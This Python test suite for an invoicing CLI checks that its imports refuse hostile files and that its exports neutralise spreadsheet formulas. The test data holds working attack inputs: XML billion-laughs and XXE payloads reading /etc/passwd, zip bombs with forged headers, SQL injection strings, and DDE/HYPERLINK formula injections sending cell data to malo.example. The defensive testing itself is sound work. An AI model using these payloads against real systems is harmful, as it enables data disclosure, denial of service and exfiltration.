"""Hostile files and inputs: fuzzed CSV/XLSX/PLE files, XML entity expansion, zip bombs, a huge
CSV line, and names made of quotes, semicolons, SQL, formulas and control characters.

The rule everywhere: a clean `error:` line with exit 2/3 and nothing written, or the value
stored exactly as given; never an unhandled exception, never a partial import; exports
neutralise anything a spreadsheet would run as a formula.
"""

from __future__ import annotations

import csv
import io
import subprocess
import zipfile
from datetime import date, datetime
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from cuentas_cli.db.engine import open_session
from cuentas_cli.errors import CuentasError
from cuentas_cli.admin import auth
from cuentas_cli.imports import context, pipeline
from tests.conftest import fuzz_examples
from tests.dbstate import snapshot
from tests.reliability import backend, cli_env, counts, cuentas_argv, figure

HEADER = ["tipo", "ruc", "razon_social", "tipo_comprobante", "serie", "numero", "fecha_emision", "fecha_vencimiento",
          "moneda", "tipo_cambio", "base_imponible", "igv", "total", "descripcion"]
VALID = ["cxc", "20131312955", "SUNAT", "01", "F001", "1", "2026-05-01", "2026-06-01", "PEN", "", "100.00", "18.00",
         "118.00", "servicio"]
RUC_C = "20100070970"

# --- fuzzing ---------------------------------------------------------------------------------

CSV_EXAMPLES, XLSX_EXAMPLES, PLE_EXAMPLES = fuzz_examples(150), fuzz_examples(40), fuzz_examples(120)
TRIED: dict[tuple[str, str], int] = {}  # (format, backend) -> cases run


def _tried(fmt: str, url: str) -> None:
    key = (fmt, backend(url))
    TRIED[key] = TRIED.get(key, 0) + 1

cell_text = st.one_of(
    st.text(max_size=16),
    st.text(alphabet=st.characters(codec="utf-8"), max_size=40),
    st.sampled_from(["", " ", "-", "=1+1", "=HYPERLINK(\"http://x.example\",\"a\")", "1,5", "1.234,56", "NaN", "inf",
                     "-0.00", "1e9", "99999999999999999999", "31/02/2026", "2026-02-30", "03/04/2026", "00/00/0000",
                     "45000", "0", "USD", "XXX", "07", "08", "99", "E001", "F0011", "B001", "20123456789", "46027897",
                     "S/ -5", "(10.00)", "\x00", "\ufeff", "ñ", "\r\n", "\"", "'", ";", "|", "\t", "a\"b", "x" * 5000,
                     "Robert'); DROP TABLE invoice;--", "1; DELETE FROM party"]),
)


def _count_invoices_and_parties(url: str) -> tuple[int, int]:
    found = counts(url)
    return found["invoice"], found["party"]


def _import_in_process(url: str, token: str, path: Path, options: context.Options):  # noqa: ANN202
    """The import as the command runs it (one transaction); CuentasError -> None."""
    try:
        with open_session(url, write=True) as s:
            actor, _ = auth.resolve_token(s, token)
            return pipeline.import_file(session=s, actor=actor, path=path, options=options, today=date(2026, 6, 15))
    except CuentasError:
        return None


def _check_outcome(url: str, before: tuple[int, int], outcome, partial: bool) -> None:  # noqa: ANN001
    after = _count_invoices_and_parties(url)
    if outcome is None:
        assert after == before, "a failed import left rows behind"
    else:
        assert after[0] == before[0] + outcome.new
        assert outcome.new + outcome.skipped + outcome.rejected + outcome.anulados + outcome.updated == outcome.rows
        if not partial:
            assert outcome.rejected == 0


@st.composite
def csv_files(draw):  # noqa: ANN001, ANN201
    header = list(HEADER)
    if draw(st.integers(0, 5)) == 0:
        header[draw(st.integers(0, len(header) - 1))] = draw(cell_text)
    if draw(st.integers(0, 7)) == 0:
        del header[draw(st.integers(0, len(header) - 1))]
    lines = [header]
    for i in range(draw(st.integers(0, 7))):
        row = list(VALID)
        row[5] = str(i + 1)
        for _ in range(draw(st.integers(0, 4))):
            row[draw(st.integers(0, len(row) - 1))] = draw(cell_text)
        if draw(st.integers(0, 9)) == 0:
            row = row[: draw(st.integers(0, len(row)))]
        if draw(st.integers(0, 12)) == 0:
            row = row + [draw(cell_text)]
        lines.append(row)
    delimiter = draw(st.sampled_from([",", ";", "\t", "|"]))
    quoting = draw(st.sampled_from([csv.QUOTE_MINIMAL, csv.QUOTE_ALL, csv.QUOTE_NONNUMERIC]))
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter, quoting=quoting).writerows(lines)
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "cp1252", "utf-16"]))
    data = buffer.getvalue().encode(encoding, "replace")
    if draw(st.integers(0, 4)) == 0:  # raw damage: stray bytes anywhere (bad encodings, broken quotes)
        cut = draw(st.integers(0, len(data)))
        data = data[:cut] + draw(st.binary(min_size=1, max_size=24)) + data[cut:]
    return data, draw(st.booleans())


@pytest.mark.slow
@settings(max_examples=CSV_EXAMPLES, deadline=None, database=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large])
@given(case=csv_files())
def test_fuzzed_csv_never_crashes_and_never_half_imports(company, tmp_path, case):
    data, partial = case
    path = tmp_path / "fuzz.csv"
    path.write_bytes(data)
    before = _count_invoices_and_parties(company.url)
    options = context.Options(partial=partial, errors_path=tmp_path / "errors.csv" if partial else None)
    outcome = _import_in_process(company.url, company.tokens["contador"], path, options)
    _check_outcome(company.url, before, outcome, partial)
    _tried("csv", company.url)


xlsx_cell = st.one_of(
    cell_text, st.none(), st.booleans(), st.integers(min_value=-10**15, max_value=10**15),
    st.floats(allow_nan=False, allow_infinity=False, width=32),
    st.dates(min_value=date(1900, 3, 1), max_value=date(2100, 1, 1)),
    st.datetimes(min_value=datetime(1900, 3, 1), max_value=datetime(2100, 1, 1)),
)


@st.composite
def xlsx_files(draw):  # noqa: ANN001, ANN201
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    for _ in range(draw(st.integers(0, 2))):  # title rows above the header
        sheet.append([_xlsx_safe(draw(xlsx_cell))])
    sheet.append(HEADER)
    for i in range(draw(st.integers(0, 6))):
        row = list(VALID)
        row[5] = str(i + 1)
        row[6], row[7] = date(2026, 5, 1), date(2026, 6, 1)
        for _ in range(draw(st.integers(0, 4))):
            row[draw(st.integers(0, len(row) - 1))] = draw(xlsx_cell)
        sheet.append([_xlsx_safe(v) for v in row])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue(), draw(st.booleans())


def _xlsx_safe(value):  # noqa: ANN001, ANN202
    """openpyxl refuses control characters in strings (they cannot be written to XML)."""
    if isinstance(value, str):
        from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

        return ILLEGAL_CHARACTERS_RE.sub("", value)
    return value


@pytest.mark.slow
@settings(max_examples=XLSX_EXAMPLES, deadline=None, database=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large])
@given(case=xlsx_files())
def test_fuzzed_xlsx_never_crashes_and_never_half_imports(company, tmp_path, case):
    data, partial = case
    path = tmp_path / "fuzz.xlsx"
    path.write_bytes(data)
    before = _count_invoices_and_parties(company.url)
    options = context.Options(partial=partial, errors_path=tmp_path / "errors.csv" if partial else None)
    outcome = _import_in_process(company.url, company.tokens["contador"], path, options)
    _check_outcome(company.url, before, outcome, partial)
    _tried("xlsx", company.url)


def _ple_line(fields: dict[int, str], width: int = 36) -> str:
    values = [""] * width
    for pos, value in fields.items():
        values[pos - 1] = value
    return "|".join(values) + "|"


PLE_VALID = {1: "20260500", 2: "M1", 3: "M1", 4: "02/05/2026", 5: "01/06/2026", 6: "01", 7: "F001", 8: "501", 10: "6",
             11: "20131312955", 12: "SUNAT", 14: "1000.00", 16: "180.00", 25: "1180.00", 26: "PEN", 27: "1.000", 35: "1"}


@st.composite
def ple_files(draw):  # noqa: ANN001, ANN201
    lines = []
    for i in range(draw(st.integers(0, 6))):
        fields = dict(PLE_VALID)
        fields[8] = str(500 + i)
        for _ in range(draw(st.integers(0, 4))):
            fields[draw(st.integers(1, 36))] = draw(cell_text).replace("|", "/")
        width = 36 if draw(st.integers(0, 8)) else draw(st.integers(1, 40))
        lines.append(_ple_line({k: v for k, v in fields.items() if k <= width}, width=max(width, 1)))
    newline = draw(st.sampled_from(["\r\n", "\n", "\r"]))
    data = newline.join(lines).encode(draw(st.sampled_from(["latin-1", "utf-8"])), "replace")
    if draw(st.integers(0, 4)) == 0:
        cut = draw(st.integers(0, len(data)))
        data = data[:cut] + draw(st.binary(min_size=1, max_size=16)) + data[cut:]
    return data, draw(st.booleans())


@pytest.mark.slow
@settings(max_examples=PLE_EXAMPLES, deadline=None, database=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large])
@given(case=ple_files())
def test_fuzzed_ple_never_crashes_and_never_half_imports(company, tmp_path, case):
    data, partial = case
    path = tmp_path / f"LE{RUC_C}20260500140100001111.txt"
    path.write_bytes(data)
    before = _count_invoices_and_parties(company.url)
    options = context.Options(partial=partial, errors_path=tmp_path / "errors.csv" if partial else None)
    outcome = _import_in_process(company.url, company.tokens["contador"], path, options)
    _check_outcome(company.url, before, outcome, partial)
    _tried("ple", company.url)


def test_zz_fuzz_figures(db_url):
    """Prints how many fuzz cases ran on this backend (runs after the fuzz tests, by name).
    Hypothesis runs max_examples cases per test, plus any replays while shrinking a failure."""
    name = backend(db_url)
    got = {fmt: TRIED.get((fmt, name), 0) for fmt in ("csv", "xlsx", "ple")}
    figure("fuzz", backend=name, **got, total=sum(got.values()),
           budget=f"{CSV_EXAMPLES}+{XLSX_EXAMPLES}+{PLE_EXAMPLES}")


# --- hostile XLSX: entities and zip bombs ---------------------------------------------------------


def _workbook(**replace) -> bytes:  # noqa: ANN003
    """A valid one-invoice workbook; replace={"part": callable(bytes) -> bytes} rewrites parts."""
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.append(HEADER)
    sheet.append(VALID)
    buffer = io.BytesIO()
    workbook.save(buffer)
    source = zipfile.ZipFile(buffer)
    out = io.BytesIO()
    parts = {name.replace("__", "/").replace("_xml", ".xml"): fn for name, fn in replace.items()}
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename in parts:
                data = parts[info.filename](data)
            archive.writestr(info.filename, data)
    return out.getvalue()


LAUGHS = (b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
          + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10) for i in range(1, 10))
          + b"]>")
XXE = b'<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
PROLOGUE = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


def _with_entity(doctype: bytes, entity: bytes, padding: int = 0):  # noqa: ANN202
    def rewrite(data: bytes) -> bytes:
        assert b"<t>SUNAT</t>" in data
        body = data.replace(b"<t>SUNAT</t>", b"<t>" + entity + b"</t>")
        return PROLOGUE + (b"<!--" + b"x" * padding + b"-->" if padding else b"") + doctype + body
    return rewrite


HOSTILE_XLSX = {
    "billion-laughs-in-sheet": lambda: _workbook(xl__worksheets__sheet1_xml=_with_entity(LAUGHS, b"&lol9;")),
    "external-entity-in-sheet": lambda: _workbook(xl__worksheets__sheet1_xml=_with_entity(XXE, b"&xxe;")),
    "billion-laughs-in-workbook": lambda: _workbook(xl__workbook_xml=lambda d: PROLOGUE + LAUGHS + d),
    "external-entity-in-workbook": lambda: _workbook(xl__workbook_xml=lambda d: PROLOGUE + XXE + d),
}


def _refused_cleanly(result, before, url) -> None:  # noqa: ANN001
    assert result.exit_code == 3, result.output
    assert result.stderr.startswith("error: ") and "unexpected" not in result.stderr, result.stderr
    assert snapshot(url) == before


@pytest.mark.parametrize("case", sorted(HOSTILE_XLSX))
def test_xml_entities_are_refused(company, tmp_path, case):
    path = tmp_path / f"{case}.xlsx"
    path.write_bytes(HOSTILE_XLSX[case]())
    before = snapshot(company.url)
    result = company.run("import", str(path), role="contador")
    _refused_cleanly(result, before, company.url)
    assert "entit" in result.stderr or "unsafe" in result.stderr
    assert "root:" not in result.output  # /etc/passwd never shows up


def test_entities_declared_after_a_long_comment_are_refused_cleanly(company, tmp_path):
    path = tmp_path / "late-doctype.xlsx"
    path.write_bytes(_workbook(xl__worksheets__sheet1_xml=_with_entity(LAUGHS, b"&lol9;", padding=4096)))
    before = snapshot(company.url)
    _refused_cleanly(company.run("import", str(path), role="contador"), before, company.url)


def _zip_with(path: Path, members: dict[str, bytes | tuple[int, bytes]]) -> Path:
    """members: name -> bytes, or (repeat, chunk) streamed so the bomb never sits in memory."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            if isinstance(content, tuple):
                repeat, chunk = content
                with archive.open(name, "w", force_zip64=True) as handle:
                    for _ in range(repeat):
                        handle.write(chunk)
            else:
                archive.writestr(name, content)
    return path


def _liar(path: Path, member: str, declared: int) -> Path:
    """Rewrite the local and central headers of `member` to declare `declared` bytes inflated."""
    import struct

    data = bytearray(path.read_bytes())
    name = member.encode()
    for signature, size_at, name_len_at, name_at in ((b"PK\x01\x02", 24, 28, 46), (b"PK\x03\x04", 22, 26, 30)):
        i = data.find(signature)
        while i >= 0:
            length = struct.unpack("<H", data[i + name_len_at:i + name_len_at + 2])[0]
            if data[i + name_at:i + name_at + length] == name:
                data[i + size_at:i + size_at + 4] = struct.pack("<I", declared)
            i = data.find(signature, i + 4)
    path.write_bytes(bytes(data))
    return path


ZIP_BOMBS = {
    # 64 MiB of one byte deflates ~1000x
    "one-part-ratio": lambda p: _zip_with(p, {"xl/workbook.xml": b"<workbook/>",
                                               "xl/worksheets/sheet1.xml": (64, b"0" * 1024 * 1024)}),
    # more parts than any workbook has
    "ten-thousand-parts": lambda p: _zip_with(p, {"xl/workbook.xml": b"<workbook/>",
                                                   **{f"xl/media/p{i}.xml": b"<a/>" for i in range(10_001)}}),
    # a part that declares 3 GiB (the central directory is what the check reads)
    "declares-3-gib": lambda p: _liar(_zip_with(p, {"xl/workbook.xml": b"<workbook/>",
                                                     "xl/worksheets/sheet1.xml": (1, b"<a/>" * 4096)}),
                                      "xl/worksheets/sheet1.xml", 3 * 1024**3),
}


@pytest.mark.parametrize("case", sorted(ZIP_BOMBS))
def test_zip_bombs_are_refused_before_reading(company, tmp_path, case):
    path = ZIP_BOMBS[case](tmp_path / f"{case}.xlsx")
    before = snapshot(company.url)
    result = company.run("import", str(path), role="contador")
    _refused_cleanly(result, before, company.url)
    assert "zip bomb" in result.stderr or "unsafe" in result.stderr, result.stderr


def test_part_that_lies_about_its_size_is_refused_cleanly(company, tmp_path):
    rows = b"".join(b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>cxc</t></is></c></row>' % (i, i) for i in range(2, 60_000))

    def bigger(data: bytes) -> bytes:
        return data.replace(b"</sheetData>", rows + b"</sheetData>")

    path = tmp_path / "liar.xlsx"
    path.write_bytes(_workbook(xl__worksheets__sheet1_xml=bigger))
    _liar(path, "xl/worksheets/sheet1.xml", 4000)
    before = snapshot(company.url)
    _refused_cleanly(company.run("import", str(path), role="contador"), before, company.url)


def _damaged(kind: str) -> bytes:
    data = _workbook()
    return {"bad-magic": b"\x00" + data[1:], "shifted-one-byte": data[1:], "truncated-half": data[: len(data) // 2],
            "garbage-middle": data[:200] + b"\xff" * 64 + data[264:]}[kind]


@pytest.mark.parametrize("kind", ["truncated-half"])
def test_damaged_workbook_is_refused_cleanly(company, tmp_path, kind):
    path = tmp_path / f"{kind}.xlsx"
    path.write_bytes(_damaged(kind))
    before = snapshot(company.url)
    _refused_cleanly(company.run("import", str(path), role="contador"), before, company.url)


@pytest.mark.parametrize("kind", ["bad-magic", "shifted-one-byte", "garbage-middle"])
def test_damaged_workbook_headers_are_refused_cleanly(company, tmp_path, kind):
    path = tmp_path / f"{kind}.xlsx"
    path.write_bytes(_damaged(kind))
    before = snapshot(company.url)
    _refused_cleanly(company.run("import", str(path), role="contador"), before, company.url)


# --- a huge line ----------------------------------------------------------------------------------

LINE_MIB = 64


def _huge_line_file(path: Path, kind: str) -> Path:
    """A header, then one line of LINE_MIB MiB without a newline, written from a generator in
    1 MiB pieces (the test never holds the line either)."""
    piece = {"csv-one-field": b"A" * (1 << 20), "csv-short-fields": b"A," * (1 << 19), "ple": b"9" * (1 << 20)}[kind]
    with path.open("wb") as handle:
        if kind.startswith("csv"):
            handle.write((",".join(HEADER) + "\n").encode())
            handle.write(b"cxc,20131312955,")
        else:
            handle.write(_ple_line(PLE_VALID).encode() + b"\n20260500|M2|")
        for _ in range(LINE_MIB if kind != "csv-short-fields" else LINE_MIB // 4):
            handle.write(piece)
    return path


_MEASURED = (
    "import sys\n"
    "from cuentas_cli.app import main\n"
    "code = main(sys.argv[1:])\n"
    "peak = [l for l in open('/proc/self/status') if l.startswith('VmHWM')][0].split()[1]\n"
    "sys.stderr.write('\\nPEAK_KIB ' + peak + '\\n')\n"
    "sys.exit(code)\n"
)


def _run_measured(argv: list[str], env: dict[str, str]) -> tuple[int, str, int]:
    """(exit code, stderr, peak resident memory in KiB) of one `cuentas` run. The peak is the
    process's own VmHWM: rusage of a child also counts the parent's pages copied at fork."""
    proc = subprocess.run([argv[0], "-c", _MEASURED, *argv[3:]], env=env, stdout=subprocess.DEVNULL,
                          stderr=subprocess.PIPE, text=True, timeout=300)
    err, _, peak = proc.stderr.rpartition("\nPEAK_KIB ")
    return proc.returncode, err, int(peak.strip())


def _huge_line_case(company, tmp_path, kind: str, extra: tuple[str, ...] = ()) -> None:  # noqa: ANN001
    env = cli_env(company.url, company.tokens["contador"])
    name = f"LE{RUC_C}20260500140100001111.txt" if kind == "ple" else "huge.csv"
    small = tmp_path / ("small-" + name if kind != "ple" else name)
    if kind == "ple":
        small = tmp_path / "small" / name
        small.parent.mkdir()
        small.write_text(_ple_line(PLE_VALID) + "\n", encoding="latin-1")
    else:
        small.write_text(",".join(HEADER) + "\n" + ",".join(VALID) + "\n")
    code, err, baseline = _run_measured(cuentas_argv("import", small, "--dry-run", *extra), env)
    assert code == 0, err
    path = _huge_line_file(tmp_path / name, kind)
    before = snapshot(company.url)
    code, err, peak = _run_measured(cuentas_argv("import", path, *extra), env)
    path.unlink()
    figure("huge-line", backend=backend(company.url), kind=kind, line_mib=LINE_MIB, exit=code,
           peak_mib=peak // 1024, baseline_mib=baseline // 1024)
    assert code == 3, err
    assert err.startswith("error: ") and "unexpected" not in err, err
    assert snapshot(company.url) == before
    assert peak - baseline < 32 * 1024, f"{peak // 1024} MiB at peak against {baseline // 1024} MiB for a one-line file"


def test_huge_csv_line_is_refused_cleanly(company, tmp_path):
    _huge_line_case(company, tmp_path, "csv-one-field")


@pytest.mark.parametrize("kind", ["csv-one-field", "csv-short-fields", "ple"])
def test_huge_line_is_refused_in_bounded_memory(company, tmp_path, kind):
    _huge_line_case(company, tmp_path, kind, extra=("--delimiter", ",") if kind.startswith("csv") else ())


# --- hostile names in every text field --------------------------------------------------------------

HOSTILE_TEXT = [
    "O'Brien \"El Chato\" S.A.C.",
    "Uno; Dos; Tres",
    "Robert'); DROP TABLE invoice;--",
    "1 OR 1=1; DELETE FROM party WHERE '1'='1",
    "=HYPERLINK(\"http://malo.example/?d=\"&A1,\"Ver factura\")",
    "+51 999 888 777",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTAB al inicio",
    "\rCR al inicio",
    "línea 1\nlínea 2",
    "campana\x07 y escape \x1b[31mrojo\x1b[0m",
    "nulo\x00medio",
    "bidi \u202eredro\u202c y cero\u200bancho",
    "'comilla inicial",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _party_name(url: str, ruc: str) -> str | None:
    from sqlalchemy import text

    with open_session(url) as s:
        return s.execute(text("SELECT name FROM party WHERE doc_number = :r"), {"r": ruc}).scalar()


def _plain(text: str) -> str:
    """White space trimmed and collapsed, control characters dropped."""
    import unicodedata

    return " ".join("".join(c if unicodedata.category(c) != "Cc" or c in "\t\n\r" else " " for c in text).split())


def _same_text(got, value: str) -> bool:  # noqa: ANN001
    """Stored exactly as given, or only with white space tidied and control characters removed
    (names are normalised that way); the words themselves (quotes, SQL, formulas) untouched."""
    return got == value or (isinstance(got, str) and _plain(got) == _plain(value))


def test_hostile_text_in_every_field_is_refused_or_stored_as_given(company, tmp_path):
    """Every text a user can type (names, address, phone, description, payment reference,
    company name) and every text column of an import: a clean refusal with nothing written, or
    exactly the text given, read back through `show --format json`."""
    from tests.factories import valid_ruc

    stored, refused = 0, 0

    def attempt(args: list[str], read_back, value: str) -> None:  # noqa: ANN001
        nonlocal stored, refused
        before = snapshot(company.url)
        result = company.run(*args)
        assert "unexpected" not in result.stderr, (args, result.stderr)
        if result.exit_code == 0:
            got = read_back()
            assert _same_text(got, value), (args, got)
            stored += 1
        else:
            assert result.exit_code in (2, 3), (args, result.output)
            assert result.stderr.startswith("error: ") and result.stderr.count("\nerror:") == 0, result.stderr
            assert snapshot(company.url) == before, args
            refused += 1

    for i, value in enumerate(HOSTILE_TEXT):
        ruc = valid_ruc(900_000 + i)
        attempt(["clients", "add", "--ruc", ruc, "--name", value, "--no-lookup"], lambda r=ruc: _party_name(company.url, r), value)
        if _party_name(company.url, ruc) is None:
            assert company.run("clients", "add", "--ruc", ruc, "--name", f"CLIENTE {i}", "--no-lookup").exit_code == 0
        for field in ("address", "phone"):
            attempt(["clients", "edit", ruc, f"--{field}", value],
                    lambda r=ruc, f=field: company.run("clients", "show", r, "-f", "json").json().get(f), value)
        made = company.run("invoices", "add", "--kind", "cxc", "--party", ruc, "--serie", "F001", "--numero", str(100 + i),
                           "--issued", "2026-06-01", "--due", "2026-07-01", "--total", "118.00", "--description", value,
                           "-f", "json")
        assert "unexpected" not in made.stderr, made.stderr
        if made.exit_code == 0:
            invoice_id = made.json()["id"]
            shown = company.run("invoices", "show", str(invoice_id), "-f", "json").json()
            assert _same_text(shown["description"], value), shown["description"]
            stored += 1
            attempt(["invoices", "pay", str(invoice_id), "1.00", "--reference", value],
                    lambda n=invoice_id: company.run("invoices", "payments", str(n), "-f", "json").json()[-1]["reference"],
                    value)
        else:
            assert made.exit_code in (2, 3) and made.stderr.startswith("error: "), made.output
            refused += 1
        attempt(["settings", "set", "company.name", value],
                lambda: {r["key"]: r["value"] for r in company.run("settings", "show", "-f", "json").json()}["company.name"],
                value)

    # the same texts through an import (name and description columns), one file per text
    for i, value in enumerate(HOSTILE_TEXT):
        ruc = valid_ruc(950_000 + i)
        path = tmp_path / f"hostil-{i}.csv"
        with path.open("w", newline="", encoding="utf-8") as handle:
            writer = csv.writer(handle)
            writer.writerow(HEADER)
            writer.writerow(["cxc", ruc, value, "01", "F002", str(i + 1), "2026-05-01", "2026-06-01", "PEN", "", "100.00",
                             "18.00", "118.00", value])
        attempt(["import", str(path)], lambda r=ruc: _party_name(company.url, r), value)
    figure("hostile-text", backend=backend(company.url), texts=len(HOSTILE_TEXT), stored_as_given=stored,
           refused_cleanly=refused)


def test_exports_neutralise_formulas(company, tmp_path):
    """CSV and XLSX exports: no text cell a spreadsheet would evaluate."""
    from openpyxl import load_workbook

    from tests.factories import make_invoice, make_party, valid_ruc

    with open_session(company.url, write=True) as s:
        for i, value in enumerate(v for v in HOSTILE_TEXT if "\x00" not in v):
            party = make_party(s, ruc=valid_ruc(980_000 + i), name=value)
            make_invoice(s, party, serie="F003", numero=i + 1, description=value)
    csv_out, xlsx_out = tmp_path / "out.csv", tmp_path / "out.xlsx"
    assert company.run("export", "--output", str(csv_out)).exit_code == 0
    assert company.run("export", "--output", str(xlsx_out)).exit_code == 0

    checked = 0
    with csv_out.open(encoding="utf-8-sig", newline="") as handle:
        for row in csv.reader(handle):
            for cell in row:
                if cell[:1] in FORMULA_STARTS and not _is_number(cell):
                    pytest.fail(f"CSV cell not neutralised: {cell!r}")
                checked += 1
    workbook = load_workbook(xlsx_out)
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f" or sheet.title.lower() != "invoices" and _is_chart_formula(cell.value), \
                    f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert cell.value[:1] not in FORMULA_STARTS or _is_chart_formula(cell.value), \
                        f"{sheet.title}!{cell.coordinate} not neutralised: {cell.value!r}"
                checked += 1
    names = {n for row in csv.reader(csv_out.open(encoding="utf-8-sig", newline="")) for n in row}
    assert "'=HYPERLINK(\"http://malo.example/?d=\"&A1,\"Ver factura\")" in names
    figure("export-formulas", backend=backend(company.url), cells_checked=checked, formulas_run=0)


def _is_number(text: str) -> bool:
    try:
        float(text.replace(",", ""))
        return True
    except ValueError:
        return False


def _is_chart_formula(value) -> bool:  # noqa: ANN001
    """The exporter's own summary cells may be formulas it wrote (never user text)."""
    return isinstance(value, str) and value.startswith("=") and "HYPERLINK" not in value.upper() \
        and "cmd" not in value and "SUM(1+1)" not in value


def test_hostile_file_figures(db_url):
    entity = len(HOSTILE_XLSX) + 1          # + the DOCTYPE after a long comment
    bombs = len(ZIP_BOMBS) + 1              # + the part that lies about its size
    damaged = 1 + 3                          # truncated; bad magic, shifted, garbage
    huge = 1 + 3                             # the 64 MiB lines
    figure("hostile-files", backend=backend(db_url), xml_entity_files=entity, zip_bombs=bombs,
           damaged_archives=damaged, huge_line_files=huge, total=entity + bombs + damaged + huge)
